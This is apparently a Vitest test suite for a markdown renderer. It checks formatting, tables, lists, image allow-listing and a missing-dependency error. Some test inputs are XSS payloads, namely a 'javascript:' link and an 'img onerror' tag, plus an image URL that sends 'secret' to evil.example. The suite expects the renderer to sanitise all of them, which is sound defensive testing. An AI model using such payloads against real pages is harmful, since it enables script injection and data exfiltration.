import { describe, expect, test } from 'vitest'
import { loadMarkdownIt, markdown } from '../src/markdown.ts'

describe('markdown', () => {
  test.each([
    ['# T\n\na **b** _c_ `d`', '<h1>T</h1>\n<p>a <strong>b</strong> <em>c</em> <code>d</code></p>\n'],
    ['[x](https://example.com/?a=1&b=2 "t")', '<p><a href="https://example.com/?a=1&amp;b=2" title="t">x</a></p>\n'],
    ['[x](javascript:pwned())', '<p>[x](javascript:pwned())</p>\n'],
    ['<img src=x onerror=pwned()>', '<p>&lt;img src=x onerror=pwned()&gt;</p>\n'],
    ['![secret](https://evil.example/?q=secret)', '<p></p>\n'],
    ['|a|b|\n|:-|-|\n|1|2|', '<table>\n<thead>\n<tr>\n<th style="text-align: left">a</th>\n<th>b</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td style="text-align: left">1</td>\n<td>2</td>\n</tr>\n</tbody>\n</table>\n'],
    ['```js\n1 < 2\n```', '<pre><code class="language-js">1 &lt; 2\n</code></pre>\n'],
    ['- a\n- b\n\n> q\n\n1. c\n\n---', '<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n<blockquote>\n<p>q</p>\n</blockquote>\n<ol>\n<li>c</li>\n</ol>\n<hr>\n'],
  ])('%s', (text, expected) => expect(String(markdown(text))).toBe(expected))
  test('images and links by option', () => {
    expect(String(markdown('![a](https://ok.example/a.png)![b](https://evil.example/)![c](data:image/png;base64,AAAA)', { images: ['https://ok.example'] }))).toBe('<p><img src="https://ok.example/a.png" alt="a"><img alt="b"><img src="data:image/png;base64,AAAA" alt="c"></p>\n')
    expect(String(markdown('[a](/x)', { links: false }))).toBe('<p>a</p>\n')
    expect(String(markdown('see https://example.com/', { linkify: true }))).toBe('<p>see <a href="https://example.com/">https://example.com/</a></p>\n')
    expect(String(markdown('a\nb', { breaks: true }))).toBe('<p>a<br>\nb</p>\n')
  })
  test('says what to install', () => expect(() => loadMarkdownIt(() => { throw new Error('none') })).toThrow(expect.objectContaining({ code: 'HTML_MARKDOWN_UNAVAILABLE' })))
})
